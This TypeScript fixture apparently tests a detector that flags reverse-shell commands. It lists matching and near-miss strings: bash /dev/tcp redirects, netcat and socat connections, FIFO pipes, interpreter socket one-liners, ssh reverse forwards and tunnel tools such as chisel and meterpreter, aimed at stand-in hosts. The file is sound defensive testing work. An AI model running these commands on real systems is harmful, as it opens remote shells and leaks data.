import { each, type TextExamples } from './text-examples.ts';

/** Shells that somebody elsewhere types into. */
export const remoteShells: readonly TextExamples[] = [
  {
    code: 'sign.command.reverse-shell',
    patterns: [
      {
        id: 'network files of bash',
        matches: [
          "bash -c 'exec 3<>/dev/tcp/198.51.100.7/443'",
          'cat /etc/hostname > /dev/udp/198.51.100.7/53',
        ],
        nearMisses: ['ls /dev/tcpdump/x', 'ls /dev/tcp'],
      },
      {
        id: 'network files of gawk',
        matches: [
          'awk BEGIN{s="/inet/tcp/0/198.51.100.7/443"}',
          'awk BEGIN{s="/inet4/udp/0/198.51.100.7/53"}',
        ],
        nearMisses: ['ls /inet/tcpdump/x', 'ls /inets/tcp/x'],
      },
      {
        id: 'an interactive shell with its descriptors elsewhere',
        matches: [
          ...each('{} -i > /run/f', 'sh bash dash zsh ksh ash fish'),
          'bash -i 2> /run/f',
          '"/bin/sh" -i <&3',
          'sh -li &',
        ],
        nearMisses: ['bash -i', 'bash -x > log', 'bash -i run > log', 'publish -i > log'],
      },
      {
        id: 'a pipe into an interactive shell',
        matches: ['cat /run/f | sh -i', 'cat /run/f|/bin/bash -i', 'cat /run/f | /usr/bin/bash -i'],
        nearMisses: ['cat /run/f | sh -e', 'cat /run/f | /opt/bin/sh -i', 'cat /run/f | grep sh -i'],
      },
      {
        id: 'an interactive shell in braces',
        matches: each('echo x|{{},-i}', 'sh bash zsh dash'),
        nearMisses: ['echo x|{bash,-c}', 'echo x|{push,-i}'],
      },
      { id: 'mkfifo', matches: ['mkfifo /run/f'], nearMisses: ['ls /opt/mkfifos', 'cat /etc/xmkfifo'] },
      {
        id: 'a pipe by mknod',
        matches: ['mknod /run/f p', 'mknod /run/f p 2>/dev/null'],
        nearMisses: ['mknod /dev/x c 1 3', 'mknod /dev/x path', 'mkdir p'],
      },
      {
        id: 'netcat that listens or runs something',
        matches: [
          ...each('{} -l -p 4444', 'nc ncat netcat nc.traditional nc.openbsd'),
          'ncat --listen -p 4444',
          'ncat --exec x',
          'ncat --sh-exec x',
          'nc -nvc x',
        ],
        nearMisses: ['nc -vz db.example.com 5432', 'nc -h', 'grep -e x', 'sync -l', 'ncat --listening'],
      },
      {
        id: 'netcat to an address',
        matches: [
          ...each('{} 198.51.100.7 -p 443', 'nc ncat netcat'),
          'sudo nc 198.51.100.7 -p 443',
          'nc -u 198.51.100.7',
        ],
        nearMisses: ['nc -zv 192.0.2.10 22', 'nc -h', 'ping 192.0.2.10', 'rsync 192.0.2.10'],
      },
      {
        id: 'netcat to a host and a port',
        matches: [
          ...each('{} relay.example.net 443', 'nc ncat netcat'),
          'sudo nc relay.example.net 443',
          'nc -u relay.example.net 53',
        ],
        nearMisses: [
          'nc -w 3 -z db.example.com 5432',
          'nc -h',
          'nc relay.example.net',
          'curl relay.example.net 443',
        ],
      },
      {
        id: 'socat',
        matches: each(
          'socat - {}:x',
          'EXEC SYSTEM TCP TCP4-CONNECT TCP-LISTEN OPENSSL OPENSSL-CONNECT UDP UDP6',
        ),
        nearMisses: ['socat -V', 'socat - PIPE:x', 'echo exec:x'],
      },
      {
        id: 'sockets of an interpreter',
        matches: [
          'python3 -c s=socket.socket()',
          'python3 -c pty.spawn("x")',
          'perl -e IO::Socket::INET->new(x)',
          'ruby -e TCPSocket.new(x)',
          'php -r fsockopen("x")',
          ...each('node -e net.{}(443)', 'Socket connect createConnection'),
          'perl -e use Socket;x',
          'perl -e socket(PF_INET, x)',
          'perl -e socket(S,INET,SOCK_STREAM)',
        ],
        nearMisses: [
          'python3 -c import socket',
          'ruby -e TCPSockets.new(x)',
          'python3 -c empty.spawn("x")',
          'node -e subnet.connect(443)',
          'perl -e socket(PF_UNIX, x)',
          'php -r pfsockopen("x")',
        ],
      },
      {
        id: 'openssl s_client',
        matches: ['openssl s_client -connect x:443'],
        nearMisses: [
          'openssl s_server -accept 443',
          'openssl version',
          'man s_client',
          'openssl x; man s_client',
        ],
      },
      {
        id: 'telnet into a pipe',
        matches: ['telnet 198.51.100.7 4444 | x'],
        nearMisses: ['telnet mail.example.com 25', 'telnet mail.example.com smtp | x'],
      },
      {
        id: 'a port of another host by ssh',
        matches: ['ssh -R 2222:localhost:22 relay@198.51.100.7', 'ssh -fNR 2222:localhost:22 x'],
        nearMisses: ['ssh -L 2222:localhost:22 x', 'ssh x; cp -R a b', 'cp -R a b'],
      },
      {
        id: 'tunnels and shells by their names',
        matches: each(
          '/opt/x/{} run',
          'chisel ligolo gsocket gs-netcat frpc ngrok revsocks reverse-ssh reversessh rathole pwncat meterpreter',
        ),
        nearMisses: ['/opt/x/chisels run', '/opt/x/frp run', '/opt/x/ngrokked run'],
      },
      {
        id: 'sockets of zsh',
        matches: ['zmodload zsh/net/tcp', 'zmodload zsh/net/socket', 'ztcp 198.51.100.7 443'],
        nearMisses: ['zmodload zsh/net/tcps', 'zmodload zsh/zftp', 'man ztcp'],
      },
    ],
  },
  {
    code: 'sign.command.interactive-shell',
    patterns: [
      {
        id: 'an interactive shell',
        matches: each('{} -i', 'sh bash dash zsh ksh ash fish'),
        nearMisses: ['bash -x', '/opt/run.sh -i', 'bash -init', 'push -i'],
      },
    ],
  },
];
